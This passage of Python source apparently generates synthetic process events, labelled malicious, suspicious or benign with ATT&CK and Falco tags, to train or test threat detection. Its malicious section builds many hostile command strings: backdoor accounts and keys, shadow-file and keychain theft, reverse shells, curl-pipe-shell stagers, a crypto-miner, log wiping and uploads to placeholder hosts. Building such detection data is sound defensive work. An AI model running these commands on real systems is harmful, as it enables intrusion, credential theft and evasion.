    tgt = G.c(["/root/.ssh/authorized_keys", "~/.ssh/authorized_keys", f"/home/{c.user}/.ssh/authorized_keys", "/var/www/.ssh/authorized_keys"])
    inner = G.c([f"echo '{key}' >> {tgt}", f"mkdir -p ~/.ssh && echo \"{key}\" >> {tgt} && chmod 600 {tgt}",
                 f"curl -s {url(ext='.pub')} >> {tgt}", f"chattr -i {tgt}; echo '{key}' >> {tgt}; chattr +i {tgt}"])
    return sh_c(c, inner)


@M("lin-useradd-uid0", "linux", ["T1136.001"], "persistence",
    "creating a second uid-0 account or a hidden user with a preset password hash: a root backdoor")
def _(c):
    u = G.c(["sysadm", "mysql-adm", "backup", "system", "dbus", ".hidden", "systemd-net"])
    k = R.randint(0, 2)
    if k == 0:
        img, cmd = "/usr/sbin/useradd", f"useradd {G.c(['-o -u 0 -g 0', '-u 0 -o', '-ou 0 -g 0'])} {G.c(['-M ', '-m ', ''])}{G.c(['-d /root ', '-s /bin/bash ', ''])}{u}"
        spec = {"pimg": "/usr/bin/bash", "pcmd": "-bash", "user": "root"}
        spec.update(img=img, cmd=cmd.replace("  ", " "))
        return spec
    if k == 1:
        return sh_c(c, f"echo '{u}:x:0:0::/root:/bin/bash' >> /etc/passwd", web_ok=False) | {"user": "root"}
    return sh_c(c, f"useradd -m -s /bin/bash {u} && echo '{u}:{G.name(10)}' | chpasswd && usermod -aG {G.c(['sudo', 'wheel'])} {u}", web_ok=False) | {"user": "root"}


@M("lin-shadow-dump-unshadow", "linux", ["T1003.008"], "credential-access",
    "copying /etc/shadow (with passwd) to a staging folder, unshadowing or cracking it: offline password cracking",
    falco=("Read sensitive file untrusted", "Warning", "Sensitive file opened for reading by non-trusted program"))
def _(c):
    d = G.c(["/tmp", "/dev/shm", "/var/tmp", "/tmp/.cache"])
    k = R.randint(0, 2)
    if k == 0:
        spec = {"img": "/usr/bin/cp", "cmd": f"cp /etc/shadow {d}/{G.c(['s', 'sh.bak', '.sd', 'shadow.txt'])}", "pimg": "/usr/bin/bash", "pcmd": G.c(["-bash", "bash -i"]), "user": "root"}
    elif k == 1:
        spec = {"img": "/usr/sbin/unshadow", "cmd": f"unshadow /etc/passwd /etc/shadow > {d}/{G.c(['hashes', 'h.txt', 'crack'])}", "pimg": "/usr/bin/bash", "pcmd": "-bash", "user": "root"}
        spec["args"] = ["unshadow", "/etc/passwd", "/etc/shadow"]
    else:
        spec = sh_c(c, f"tar czf {d}/.{G.name(3)}.tgz /etc/passwd /etc/shadow /etc/group && curl -F f=@{d}/.{G.name(3)}.tgz {url(ext='')}", web_ok=False)
        spec["user"] = "root"
    return spec


@M("lin-history-tampering", "linux", ["T1070.003"], "defense-evasion",
    "clearing shell history, unsetting HISTFILE or linking history to /dev/null: covering tracks after hands-on activity",
    falco=("Delete or rename shell history", "Warning", "Shell history had been deleted or renamed"))
def _(c):
    inner = G.c(["history -c && rm -f ~/.bash_history", "unset HISTFILE; export HISTFILESIZE=0; history -c", "ln -sf /dev/null ~/.bash_history",
                 "rm -rf /root/.bash_history /home/*/.bash_history", "cat /dev/null > ~/.bash_history && history -c && exit",
                 "shred -u ~/.bash_history ~/.zsh_history"])
    spec = sh_c(c, inner, web_ok=False)
    return spec


@M("lin-setuid-shell-copy", "linux", ["T1548.001"], "privilege-escalation",
    "setting the setuid bit on a shell or a copy of one in a hidden or temp path: a root shell for later",
    falco=("Set Setuid or Setgid bit", "Notice", "Setuid or setgid bit is set via chmod"))
def _(c):
    d = G.c(["/tmp/.sh", "/var/tmp/.bash", "/dev/shm/.s", "/usr/local/bin/.rootsh"])
    inner = G.c([f"cp /bin/bash {d} && chmod u+s {d}", f"cp /usr/bin/dash {d}; chmod 4755 {d}", f"chmod +s /bin/bash", f"chmod u+s /usr/bin/find"])
    if R.random() < 0.4:
        return {"img": "/usr/bin/chmod", "cmd": G.c([f"chmod u+s {d}", "chmod 4755 /bin/bash", "chmod +s /usr/bin/python3"]), "pimg": "/usr/bin/bash", "pcmd": "-bash", "user": "root"}
    return sh_c(c, inner, web_ok=False) | {"user": "root"}


@M("lin-ld-preload-hijack", "linux", ["T1574.006"], "persistence",
    "writing a library path into /etc/ld.so.preload or exporting LD_PRELOAD of a library from a temp path: userland rootkit loading")
def _(c):
    lib = G.c(["/usr/local/lib/libprocesshider.so", "/lib/libsystemd-shim.so", "/tmp/.l/libc.so.4", "/usr/lib/x86_64-linux-gnu/libnetresolv.so", f"/dev/shm/{G.name(5)}.so"])
    inner = G.c([f"echo {lib} > /etc/ld.so.preload", f"echo \"{lib}\" >> /etc/ld.so.preload", f"LD_PRELOAD={lib} /usr/sbin/sshd", f"export LD_PRELOAD={lib}; {G.c(['ps aux', 'bash'])}"])
    return sh_c(c, inner, web_ok=False) | {"user": "root"}


@M("lin-cryptominer", "linux", ["T1496"], "impact",
    "an XMRig-style miner (often renamed) pointed at a stratum pool with a wallet, from a hidden temp folder",
    falco=("Detect crypto miners using the Stratum protocol", "Critical", "Possible miner running"))
def _(c):
    d = G.c(["/tmp/.cache", "/var/tmp/.font-unix", "/dev/shm/.x", "/tmp/.ICE-unix", "/opt/.sys"])
    b = G.c(["xmrig", "kthreaddk", "kswapd0", "sysupdate", "dbused", "minerd", "[kworker]"])
    pool = G.c(["stratum+tcp://pool.supportxmr.com:3333", "pool.minexmr.com:4444", "stratum+tcp://xmr.2miners.com:2222", f"{G.ip()}:3333", "stratum+ssl://gulf.moneroocean.stream:20128"])
    wallet = "4" + G.name(94, "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz")
    cmd = f"{G.c(['./' + b, d + '/' + b])} {G.c(['-o', '--url'])} {pool} -u {wallet} -p {G.c(['x', c.host, 'worker1'])} {G.c(['--donate-level 1', '-k --background', '--cpu-max-threads-hint=75', '-B'])}"
    spec = {"img": f"{d}/{b}", "cmd": cmd, "pimg": "/usr/bin/bash", "pcmd": f"bash -c cd {d} && nohup ./{b} -c config.json >/dev/null 2>&1 &",
            "user": G.c(["root", "www-data", "redis", "postgres"]), "cwd": d}
    if R.random() < 0.4:
        spec["container"] = (G.c(["docker.io/bitnami/redis", "docker.io/library/wordpress", "ghcr.io/acme/api"]), G.c(["6.2.6", "latest", "1.4.2"]), "app-0", G.c(["cache", "web", "default"]), "app-0")
    return spec


@M("lin-docker-privileged-host-escape", "linux", ["T1611"], "privilege-escalation",
    "docker run --privileged (or --pid=host) mounting the host root and chrooting or nsentering into it: a container-to-host escape",
    falco=("Launch Privileged Container", "Notice", "Privileged container started"))
def _(c):
    img_ = G.c(["alpine", "ubuntu", "busybox", "alpine:3.19", "debian:stable-slim"])
    cmd = G.c([f"docker run --rm -it --privileged -v /:/host {img_} chroot /host {G.c(['bash', 'sh'])}",
               f"docker run -d --privileged --net=host -v /:/mnt {img_} chroot /mnt sh -c \"echo '* * * * * root curl -s {url(ext='.sh')}|sh' >> /etc/crontab\"",
               f"docker run --rm --pid=host --privileged {img_} nsenter -t 1 -m -u -n -i sh",
               f"docker run -v /:/hostfs --privileged -it {img_} chroot /hostfs /bin/bash"])
    return {"img": "/usr/bin/docker", "cmd": cmd, "pimg": "/usr/bin/bash", "pcmd": G.c(["-bash", "bash"]), "user": G.c([c.user, "jenkins", "gitlab-runner"])}


@M("lin-kubectl-exec-kube-system", "linux", ["T1609"], "execution",
    "kubectl exec into a kube-system or other privileged pod to read service-account tokens or run a shell",)
def _(c):
    pod = G.c(["kube-proxy-" + G.name(5), "coredns-5d78c9869d-" + G.name(5), "etcd-master-1", "calico-node-" + G.name(5), "aws-node-" + G.name(5)])
    what = G.c(["cat /var/run/secrets/kubernetes.io/serviceaccount/token", "sh", "/bin/sh -c 'cat /etc/kubernetes/admin.conf'",
                f"sh -c 'curl -s {url(ext='.sh')} | sh'", "cat /etc/kubernetes/pki/ca.key"])
    cmd = f"kubectl {G.c(['-n kube-system exec -it', 'exec -n kube-system', 'exec -it -n kube-system'])} {pod} -- {what}"
    return {"img": "/usr/local/bin/kubectl", "cmd": cmd, "args": ["kubectl"] + posix_split(cmd)[1:], "pimg": "/usr/bin/bash", "pcmd": "bash", "user": G.c([c.user, "jenkins", "www-data"])}


@M("lin-base64-decode-to-shell", "linux", ["T1140", "T1059.004"], "defense-evasion",
    "a base64 blob decoded and piped straight into a shell: an obfuscated download or reverse shell")
def _(c):
    payload = G.c([f"curl -fsSL {url(ext='.sh')}|bash", f"bash -i >& /dev/tcp/{lhost()}/443 0>&1", f"wget -qO- {url()}|sh"])
    b = base64.b64encode(payload.encode()).decode()
    inner = G.c([f"echo {b} | base64 -d | bash", f"echo '{b}'|base64 --decode|sh", f"bash -c \"$(echo {b} | base64 -d)\"", f"printf {b} | base64 -d | sh"])
    return sh_c(c, inner)


@M("lin-ssh-key-harvest", "linux", ["T1552.004"], "credential-access",
    "searching the filesystem for private keys and cloud credential files and bundling them for collection")
def _(c):
    d = G.c(["/tmp", "/dev/shm", "/var/tmp"])
    inner = G.c([f"find / -name id_rsa -o -name id_ed25519 -o -name '*.pem' 2>/dev/null | xargs tar czf {d}/.k.tgz",
                 f"tar czf {d}/.c.tgz ~/.ssh ~/.aws ~/.kube ~/.docker/config.json 2>/dev/null",
                 "grep -rl 'BEGIN OPENSSH PRIVATE KEY' /home /root 2>/dev/null",
                 f"cat /root/.aws/credentials /home/*/.aws/credentials > {d}/.a 2>/dev/null"])
    return sh_c(c, inner)


@M("lin-disable-security-logging", "linux", ["T1562.001", "T1562.012"], "defense-evasion",
    "stopping auditd, deleting audit rules, disabling SELinux/AppArmor or killing the EDR agent on a server")
def _(c):
    inner = G.c(["systemctl stop auditd && systemctl disable auditd", "auditctl -D", "setenforce 0; sed -i 's/SELINUX=enforcing/SELINUX=disabled/' /etc/selinux/config",
                 "systemctl stop apparmor; systemctl disable apparmor", "pkill -9 -f falco; systemctl stop falco", "service rsyslog stop; rm -f /var/log/auth.log*",
                 "ufw disable && iptables -F"])
    return sh_c(c, inner, web_ok=False) | {"user": "root"}


# macOS, malicious ------------------------------------------------------------------------------


def mac_stage_parent(c):
    return G.c([("/bin/sh", f"/bin/sh /private/tmp/.{G.name(4)}/run.sh"), ("/bin/bash", f"/bin/bash {c.home}/Downloads/{G.c(['install', 'setup', 'Update'])}.command"),
                ("/bin/zsh", "-zsh"), ("/usr/bin/osascript", f"osascript {c.home}/Library/Application Support/.{G.name(5)}/s.scpt"),
                (f"/Volumes/{G.c(['Installer', 'Setup', 'Player'])}/{G.c(['Installer', 'Setup'])}.app/Contents/MacOS/{G.name(6)}", f"/Volumes/Installer/Installer.app/Contents/MacOS/{G.name(6)}")])


@M("mac-osascript-password-prompt", "macos", ["T1056.002"], "credential-access",
    "osascript showing a fake system dialog with a hidden answer field: phishing the user's login password (infostealer behaviour)")
def _(c):
    txt = G.c(["macOS needs to access System Settings. Please enter your password.", "Software Update requires your password to continue.",
               "To launch the application, you need to update the system settings", "Keychain Access wants to use the login keychain."])
    cmd = f"osascript -e 'display dialog \"{txt}\" default answer \"\" with title \"{G.c(['System Preferences', 'Update', 'macOS'])}\" with icon {G.c(['caution', 'stop', 'note'])} buttons {{\"Continue\"}} default button \"Continue\" with hidden answer'"
    pimg, pcmd = mac_stage_parent(c)
    return {"img": "/usr/bin/osascript", "cmd": cmd, "pimg": pimg, "pcmd": pcmd}


@M("mac-curl-pipe-shell", "macos", ["T1105", "T1059.004"], "execution",
    "a fake installer or lure running curl from a bare IP or throwaway domain piped into bash or zsh")
def _(c):
    u = url(ext=G.c([".sh", "", "/install"]))
    inner = G.c([f"curl -fsSL {u} | bash", f"curl -s {u} | sh", f"/bin/bash -c \"$(curl -fsSL {u})\"", f"cd /tmp && curl -kO {u} && sh {basename(u)}"])
    img = G.c(["/bin/bash", "/bin/sh", "/bin/zsh"])
    pimg, pcmd = mac_stage_parent(c)
    return {"img": img, "cmd": f"{basename(img)} -c {inner}", "args": [basename(img), "-c", inner], "pimg": pimg, "pcmd": pcmd}


@M("mac-launchagent-hidden-binary", "macos", ["T1543.001"], "persistence",
    "launchctl loading a LaunchAgent plist named like an Apple or vendor service whose program is a hidden binary in the user's Library or /tmp")
def _(c):
    label = G.c(["com.apple.systemupdate", "com.google.keystone.agent2", "com.apple.softwareupdate.helper", "com.adobe.flashplayer.update", "com.zoom.updater.plist2", "com.apple." + G.name(6)])
    plist = f"{c.home}/Library/LaunchAgents/{label}.plist"
    cmd = G.c([f"launchctl load -w {plist}", f"launchctl load {plist}", f"launchctl bootstrap gui/{c.uid} {plist}"])
    pimg, pcmd = G.c([("/bin/sh", f"sh -c cp /tmp/.{G.name(3)}/{label}.plist ~/Library/LaunchAgents/ && {cmd}"), mac_stage_parent(c)])
    return {"img": "/bin/launchctl", "cmd": cmd, "pimg": pimg, "pcmd": pcmd}


@M("mac-quarantine-strip-and-run", "macos", ["T1553.001"], "defense-evasion",
    "removing the com.apple.quarantine attribute from a freshly downloaded app or binary so Gatekeeper never checks it, then opening it")
def _(c):
    app = G.c([f"/tmp/{G.c(['Updater', 'Installer', 'FlashPlayer', 'ChatGPT'])}.app", f"{c.home}/Downloads/{G.c(['Setup', 'Player', 'Zoom Installer'])}.app", f"/private/tmp/.{G.name(4)}"])
    q = f'"{app}"' if " " in app else app
    cmd = G.c([f"xattr -d com.apple.quarantine {q}", f"xattr -rd com.apple.quarantine {q}", f"xattr -c {q}", f"/usr/bin/xattr -r -d com.apple.quarantine {q}"])
    if R.random() < 0.4:
        inner = f"curl -so /tmp/u.zip {url(ext='.zip')} && unzip -o /tmp/u.zip -d /tmp && {cmd} && open {q}"
        return {"img": "/bin/sh", "cmd": f"sh -c {inner}", "args": ["sh", "-c", inner], "pimg": "/bin/zsh", "pcmd": "-zsh"}
    pimg, pcmd = mac_stage_parent(c)
    return {"img": "/usr/bin/xattr", "cmd": cmd, "pimg": pimg, "pcmd": pcmd}


@M("mac-keychain-dump", "macos", ["T1555.001"], "credential-access",
    "security dump-keychain -d or find-generic-password -w pulling secrets out of the login keychain from a script")
def _(c):
    kc = G.c(["login.keychain-db", f"{c.home}/Library/Keychains/login.keychain-db", "~/Library/Keychains/login.keychain-db"])
    cmd = G.c([f"security dump-keychain -d {kc}", "security dump-keychain -a -d", f"security find-generic-password -ga \"Chrome\" -w",
               f"security find-generic-password -s \"{G.c(['Chrome Safe Storage', 'Slack Safe Storage', 'Microsoft Edge Safe Storage'])}\" -w",
               f"security find-internet-password -g -s {G.c(['github.com', 'login.microsoftonline.com', 'vpn.corp.example.com'])}"])
    pimg, pcmd = mac_stage_parent(c)
    return {"img": "/usr/bin/security", "cmd": cmd, "pimg": pimg, "pcmd": pcmd}


@M("mac-dscl-hidden-admin", "macos", ["T1136.001", "T1564.002"], "persistence",
    "dscl creating a local user with a low UID, hidden from the login window, and adding it to the admin group")
def _(c):
    u = G.c(["_support", "sysadmin", ".admin", "mdmhelper", G.name(6)])
    cmd = G.c([f"dscl . -create /Users/{u}", f"dscl . -create /Users/{u} UniqueID {R.randint(401, 499)}", f"dscl . -append /Groups/admin GroupMembership {u}",
               f"dscl . -create /Users/{u} IsHidden 1", f"dscl . -passwd /Users/{u} {G.name(10)}", f"dseditgroup -o edit -a {u} -t user admin"])
    img = "/usr/sbin/dseditgroup" if cmd.startswith("dseditgroup") else "/usr/bin/dscl"
    pimg, pcmd = G.c([("/bin/sh", f"/bin/sh /private/tmp/.{G.name(4)}/post.sh"), ("/usr/bin/sudo", f"sudo {cmd}")])
    return {"img": img, "cmd": cmd, "pimg": pimg, "pcmd": pcmd, "user": "root", "cwd": c.home}


@M("mac-screencapture-loop", "macos", ["T1113"], "collection",
    "silent screencapture into a hidden or temp folder on a loop from a script: screen collection by a stealer or RAT")
def _(c):
    d = G.c(["/tmp/.s", f"{c.home}/Library/Caches/.{G.name(4)}", "/private/var/tmp/.c", f"{c.home}/.local/share/.sc"])
    cmd = f"screencapture {G.c(['-x', '-x -C', '-x -t jpg', '-xC'])} {d}/{G.c(['s', 'cap', 'img', ''])}{R.randint(1, 9999)}.{G.c(['png', 'jpg'])}"
    pimg, pcmd = G.c([("/bin/bash", f"bash -c while true; do screencapture -x {d}/$(date +%s).png; sleep {G.c(['30', '60', '15'])}; done"), mac_stage_parent(c)])
    return {"img": "/usr/sbin/screencapture", "cmd": cmd, "pimg": pimg, "pcmd": pcmd}


@M("mac-log-erase", "macos", ["T1070.002"], "defense-evasion",
    "erasing the unified log or deleting install and system logs after installing something: evidence removal")
def _(c):
    cmd = G.c(["log erase --all", "log erase --ttl", "rm -rf /var/log/install.log /var/log/system.log", "rm -rf /private/var/db/diagnostics/*", "sqlite3 ~/Library/Preferences/com.apple.LaunchServices.QuarantineEventsV2 'DELETE FROM LSQuarantineEvent'"])
    img = {"log": "/usr/bin/log", "rm": "/bin/rm", "sq": "/usr/bin/sqlite3"}[cmd[:3].strip() if cmd[:3] in ("log", "sql") else cmd[:2]] if not cmd.startswith("sqlite3") else "/usr/bin/sqlite3"
    pimg, pcmd = G.c([("/usr/bin/sudo", f"sudo {cmd}"), mac_stage_parent(c)])
    return {"img": img, "cmd": cmd, "pimg": pimg, "pcmd": pcmd, "user": "root" if "sqlite3" not in cmd else c.user, "cwd": c.home}


@M("mac-osascript-jxa-stager", "macos", ["T1059.002"], "execution",
    "osascript running JavaScript for Automation that evaluates code fetched from the network: a JXA stager")
def _(c):
    u = url(ext=G.c([".js", "", "/jxa"]))
    code = G.c([f"eval(ObjC.unwrap($.NSString.alloc.initWithDataEncoding($.NSData.dataWithContentsOfURL($.NSURL.URLWithString('{u}')),$.NSUTF8StringEncoding)))",
                f"ObjC.import('Foundation');var d=$.NSData.dataWithContentsOfURL($.NSURL.URLWithString('{u}'));eval($.NSString.alloc.initWithDataEncoding(d,4).js)"])
    cmd = f"osascript -l JavaScript -e \"{code}\""
    pimg, pcmd = mac_stage_parent(c)
    return {"img": "/usr/bin/osascript", "cmd": cmd, "pimg": pimg, "pcmd": pcmd}


@M("mac-archive-upload-exfil", "macos", ["T1560.001", "T1048.003"], "exfiltration",
    "zipping Documents, Desktop, keychains or browser profiles into /tmp and POSTing the archive to an outside host")
def _(c):
    z = f"/tmp/{G.c(['out', 'data', '.' + G.name(4), c.user])}.zip"
    src = G.c(["~/Documents ~/Desktop", "~/Library/Keychains", "'~/Library/Application Support/Google/Chrome/Default'", "~/Library/Cookies ~/Documents"])
    inner = f"{G.c(['zip -qr', 'ditto -c -k --sequesterRsrc', 'zip -r -q'])} {z} {src} && curl -s -F \"file=@{z}\" {G.c([url(ext=''), 'http://' + G.ip() + '/p', 'https://' + G.c(BAD_DOMAINS) + '/upload'])}"
    pimg, pcmd = mac_stage_parent(c)
    return {"img": "/bin/sh", "cmd": f"sh -c {inner}", "args": ["sh", "-c", inner], "pimg": pimg, "pcmd": pcmd}


# Suspicious ------------------------------------------------------------------------------------


@S("win-whoami-localgroup-interactive", "windows", ["T1033", "T1069.001"], "discovery",
    "whoami /all, whoami /priv or net localgroup administrators typed in a user's own console: first commands of many intrusions and also of helpdesk troubleshooting")
def _(c):
    img, cmd = G.c([(SYS + "\\whoami.exe", G.c(["whoami /all", "whoami /priv", "whoami /groups", "whoami.exe  /all", "whoami /user /fo list"])),
                    (SYS + "\\net.exe", G.c(["net localgroup administrators", "net  localgroup \"Remote Desktop Users\"", "net.exe localgroup", "net localgroup Administrators"])),
                    (SYS + "\\net1.exe", "C:\\WINDOWS\\system32\\net1  localgroup administrators")])
    pimg, pcmd = interactive_shell()
    if img.endswith("net1.exe"):
        pimg, pcmd = SYS + "\\net.exe", "net  localgroup administrators"
    return {"img": img, "cmd": cmd, "pimg": pimg, "pcmd": pcmd, "run": G.c(["user", "useradmin"])}


@S("win-domain-trust-discovery-user", "windows", ["T1482", "T1018"], "discovery",
    "nltest /domain_trusts, /dclist or net group /domain from a user's console: domain reconnaissance or an admin checking replication; needs context")
def _(c):
    cmd = G.c([f"nltest /domain_trusts", "nltest /domain_trusts /all_trusts", f"nltest /dclist:{c.suffix}", f"nltest /dsgetdc:{c.dom.lower()}",
               "net group \"Domain Computers\" /domain", "net view /domain", "nltest /trusted_domains"])
    img = SYS + ("\\nltest.exe" if cmd.startswith("nltest") else "\\net.exe")
    pimg, pcmd = interactive_shell()
    return {"img": img, "cmd": cmd, "pimg": pimg, "pcmd": pcmd}


@S("win-remote-access-tool-user-install", "windows", ["T1219"], "command-and-control",
    "AnyDesk, TeamViewer or ScreenConnect started from a user's Downloads or AppData, often with unattended-access flags: attacker persistence or a vendor support session")
def _(c):
    k = R.randint(0, 2)
    if k == 0:
        exe = f"{G.c([c.home + '' + BS + 'Downloads', c.home + '' + BS + 'AppData' + BS + 'Roaming', 'C:' + BS + 'ProgramData' + BS + 'AnyDesk', 'C:' + BS + 'Users' + BS + 'Public'])}\\AnyDesk.exe"
        cmd = f"\"{exe}\" {G.c(['--install ' + Q + 'C:' + BS + 'ProgramData' + BS + 'AnyDesk' + Q + ' --start-with-win --silent', '--set-password', '', '--silent --remove-first', '--get-id'])}".strip()
    elif k == 1:
        exe = f"{c.home}\\Downloads\\{G.c(['TeamViewerQS.exe', 'TeamViewer_Setup_x64.exe', 'TeamViewer.exe'])}"
        cmd = f"\"{exe}\"{G.c(['', ' /S', ' --id ' + str(R.randint(100000000, 999999999))])}"
    else:
        exe = f"{c.home}\\AppData\\Local\\Apps\\2.0\\{G.name(8).upper()}\\ScreenConnect.WindowsClient.exe"
        cmd = f"\"{exe}\" \"?e=Access&y=Guest&h={G.c(['instance-' + G.name(5) + '-relay.screenconnect.example', G.ip()])}&p=443&s={G.guid()}&k={G.name(20, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789')}\""
    pimg, pcmd = G.c([explorer(), ("C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --single-argument " + exe), cmd_wrap(cmd)])
    return {"img": exe, "cmd": cmd, "pimg": pimg, "pcmd": pcmd, "run": G.c(["user", "useradmin"])}


@S("win-powershell-bypass-user-script", "windows", ["T1059.001"], "execution",
    "PowerShell with -ExecutionPolicy Bypass running a .ps1 from the user's Downloads or Desktop: a downloaded tool or a colleague's helper script")
def _(c):
    f = f"{c.home}\\{G.c(['Downloads', 'Desktop', 'Documents' + BS + 'scripts', 'Downloads' + BS + 'tools'])}\\{G.c(['Get-Inventory', 'fix-outlook', 'setup', 'Invoke-Cleanup', 'report', 'install', 'map-printers', G.name(6)])}.ps1"
    parts = [G.c(["-ExecutionPolicy Bypass", "-ep bypass", "-exec bypass", "-ExecutionPolicy Unrestricted"]), G.c(["-File", "-f"]) + f" \"{f}\""]
    if R.random() < 0.5:
        parts.insert(0, G.c(["-NoProfile", "-nop"]))
    cmd = f"{psexe()} {' '.join(parts)}"
    pimg, pcmd = G.c([explorer(), interactive_shell(), cmd_wrap(cmd)])
    return {"img": PS, "cmd": cmd, "pimg": pimg, "pcmd": pcmd, "run": G.c(["user", "useradmin"])}


@S("win-psexec-admin-jumphost", "windows", ["T1569.002", "T1021.002"], "lateral-movement",
    "an admin account running PsExec from a jump host against another machine (gpupdate, ipconfig, a restart): routine for some IT teams, and exactly what lateral movement looks like")
def _(c):
    c.server = True
    c.host = G.c(["JUMP-01", "SRV-RDS01", "JUMP-02"])
    c.fqdn = f"{c.host}.{c.suffix}"
    exe = G.c(["C:\\Tools\\PSTools\\PsExec.exe", "C:\\Tools\\SysinternalsSuite\\PsExec64.exe", f"C:\\Users\\{c.admin}\\Tools\\PsExec64.exe"])
    tgt = G.c([f"\\\\WS-{R.randint(10, 4999):04d}", f"\\\\SRV-APP0{R.randint(1, 6)}", f"\\\\{G.lan('10.20')}"])
    cmd = f"{basename(exe)} {G.c(['-accepteula ', '/accepteula ', ''])}{tgt} {G.c(['-s ', '-h ', ''])}{G.c(['gpupdate /force', 'ipconfig /flushdns', 'cmd /c gpupdate /target:computer /force', 'shutdown /r /t 60', 'cmd'])}"
    pimg, pcmd = interactive_shell()
    return {"img": exe, "cmd": cmd, "pimg": pimg, "pcmd": pcmd, "run": "admin"}


@S("win-workstation-port-scan", "windows", ["T1046"], "discovery",
    "a port scanner (nmap, Advanced IP Scanner, a PowerShell Test-NetConnection loop) run from an ordinary workstation against internal ranges: discovery unless the user is in IT")
def _(c):
    net = G.c(["10.20.0.0/16", "10.32.0.0/24", "192.168.1.0/24", "172.16.10.0/23"])
    k = R.randint(0, 2)
    if k == 0:
        exe = G.c(["C:\\Program Files (x86)\\Nmap\\nmap.exe", f"{c.home}\\Downloads\\nmap-7.94\\nmap.exe"])
        cmd = f"nmap {G.c(['-sS -T4', '-sV -p 445,3389,5985', '-Pn -p 1-1024', '-sT --top-ports 100'])} {net}"
    elif k == 1:
        exe = f"{G.c([c.home + '' + BS + 'AppData' + BS + 'Local' + BS + 'Temp' + BS + 'Advanced IP Scanner 2', 'C:' + BS + 'Program Files (x86)' + BS + 'Advanced IP Scanner'])}\\advanced_ip_scanner.exe"
        cmd = f"\"{exe}\" /portable \"{c.home}\\AppData\\Local\\Temp\\ais\" /lng en_us"
    else:
        exe = PS
        cmd = f"powershell -c \"1..254 | % {{ Test-NetConnection {G.lan('10.20').rsplit('.', 1)[0]}.$_ -Port {G.c(['445', '3389', '22'])} -InformationLevel Quiet }}\""
    pimg, pcmd = G.c([interactive_shell(), explorer()])
    return {"img": exe, "cmd": cmd, "pimg": pimg, "pcmd": pcmd}


@S("lin-sudo-read-shadow", "linux", ["T1003.008"], "credential-access",
    "root (through sudo) reading or grepping /etc/shadow: an admin checking an account's hash state, or the first step of cracking",
    falco=("Read sensitive file untrusted", "Warning", "Sensitive file opened for reading by non-trusted program"))
def _(c):
    cmd = G.c(["cat /etc/shadow", f"grep {c.user} /etc/shadow", "head -5 /etc/shadow", "less /etc/shadow", "awk -F: '($2 == \"\") {print $1}' /etc/shadow", "tail /etc/shadow"])
    tool = cmd.split()[0]
    img = {"cat": "/usr/bin/cat", "grep": "/usr/bin/grep", "head": "/usr/bin/head", "less": "/usr/bin/less", "awk": "/usr/bin/gawk", "tail": "/usr/bin/tail"}[tool]
    return {"img": img, "cmd": cmd, "pimg": "/usr/bin/sudo", "pcmd": f"sudo {cmd}", "user": "root", "auid": "user", "interactive": True, "cwd": c.home}


@S("lin-shell-in-production-pod", "linux", ["T1609"], "execution",
    "an interactive shell started inside a production container (kubectl exec or docker exec): debugging, or an intruder working inside the cluster",
    falco=("Terminal shell in container", "Notice", "A shell was spawned in a container with an attached terminal"))
def _(c):
    sh = G.c([("/bin/bash", "bash"), ("/bin/sh", "sh"), ("/bin/ash", "/bin/ash")])
    ctr = (G.c(["registry.corp.example.com/payments/api", "docker.io/library/nginx", "ghcr.io/acme/orders", "docker.io/bitnami/postgresql"]), G.c(["1.42.0", "1.25-alpine", "v3.8.1", "15.6.0"]),
           G.c(["api", "nginx", "orders", "postgresql"]), G.c(["payments", "web", "orders", "db"]), f"{G.c(['api', 'web', 'orders', 'pg'])}-{G.hx(10)}-{G.name(5)}")
    return {"img": sh[0], "cmd": G.c([sh[1], sh[1] + " -il", sh[1] + " -i"]), "pimg": G.c(["/usr/bin/containerd-shim-runc-v2", "/usr/bin/runc"]),
            "pcmd": G.c([f"/usr/bin/containerd-shim-runc-v2 -namespace k8s.io -id {G.hx(64)} -address /run/containerd/containerd.sock", f"runc --root /run/containerd/runc/k8s.io exec --process /tmp/runc-process{R.randint(100000000, 999999999)} -t {G.hx(64)}"]),
            "user": G.c(["root", "app", "nginx-app"]), "cwd": G.c(["/", "/app", "/usr/share/nginx/html"]), "container": ctr, "tty": "pts0", "auid": "none"}


@S("mac-remote-management-enable", "macos", ["T1021.005"], "lateral-movement",
    "kickstart or systemsetup turning on Remote Management, screen sharing or remote login: an IT setup step, or an intruder opening a way back in")
def _(c):
    cmd = G.c(["/System/Library/CoreServices/RemoteManagement/ARDAgent.app/Contents/Resources/kickstart -activate -configure -access -on -privs -all -restart -agent",
               "/System/Library/CoreServices/RemoteManagement/ARDAgent.app/Contents/Resources/kickstart -activate -configure -allowAccessFor -allUsers -privs -all",
               "systemsetup -setremotelogin on", "launchctl load -w /System/Library/LaunchDaemons/com.apple.screensharing.plist"])
    img = cmd.split()[0] if cmd.startswith("/") else {"systemsetup": "/usr/sbin/systemsetup", "launchctl": "/bin/launchctl"}[cmd.split()[0]]
    return {"img": img, "cmd": cmd, "pimg": "/usr/bin/sudo", "pcmd": f"sudo {cmd}", "user": "root", "auid": "user", "cwd": c.home}


# Windows, benign -------------------------------------------------------------------------------

SVC_GROUPS = [("netsvcs", ["Schedule", "gpsvc", "ProfSvc", "Winmgmt", "BITS", "SENS", "Themes", "UserManager", "ShellHWDetection", "IKEEXT", "lfsvc"]),
              ("LocalServiceNetworkRestricted", ["Dhcp", "EventLog", "lmhosts", "TimeBrokerSvc", "WarpJITSvc"]),
              ("LocalSystemNetworkRestricted", ["SysMain", "TrkWks", "PcaSvc", "UmRdpService", "hidserv"]),
              ("NetworkService", ["Dnscache", "CryptSvc", "NlaSvc", "LanmanWorkstation", "TermService"]),
              ("LocalService", ["nsi", "W32Time", "EventSystem", "FontCache", "bthserv"]),
              ("wusvcs", ["WaaSMedicSvc"]), ("DcomLaunch", ["BrokerInfrastructure", "PlugPlay", "Power", "SystemEventsBroker"]),
              ("RPCSS", ["RpcSs"]), ("appmodel", ["StateRepository", "camsvc"]), ("UnistackSvcGroup", ["CDPUserSvc_" + "4a1b2c", "WpnUserService_3f5e9"])]


@B("win-svchost-service-groups", "windows", "services.exe starting svchost for a service group with -p and -s: the most common process start on any Windows machine", n=13)
def _(c):
    g, svcs = G.c(SVC_GROUPS)
